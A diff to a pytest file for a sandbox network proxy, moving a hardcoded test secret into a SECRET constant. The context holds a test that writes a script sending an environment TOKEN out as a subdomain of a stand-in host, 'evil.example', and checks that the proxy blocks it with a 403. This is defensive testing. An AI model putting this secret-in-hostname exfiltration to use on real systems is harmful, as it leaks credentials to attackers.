@@ -13,6 +13,7 @@ import pytest
 from tests.workspaces.sandbox.conftest import Runner
 from workspaces.sandbox import Connection, Ending, Limits, Way, heads, proxy, telling
 
+SECRET = "S3cret-Value-77"
 FETCH = (
     "python3 -c \"import urllib.request as u; print(u.urlopen('{url}', timeout=20).read().decode())\" 2>&1 | tail -1"
 )
@@ -227,7 +228,7 @@ def test_nothing_is_used_or_told_that_opens_after_the_end() -> None:
 def test_a_secret_that_is_asked_for_as_a_host_is_not_told(run: Runner, port: int) -> None:
     script = f"import os, urllib.request as u\nu.urlopen('http://' + os.environ['TOKEN'] + '.evil.example:{port}/')"
     (run.tree / "leak.py").write_text(script)
-    secret = (("TOKEN", "S3cret-Value-77"),)
+    secret = (("TOKEN", SECRET),)
     outcome = run("python3 leak.py 2>&1 | tail -1", network=(f"index.example:{port}",), secrets=secret)
     assert "403" in run.output
     [heard] = run.heard
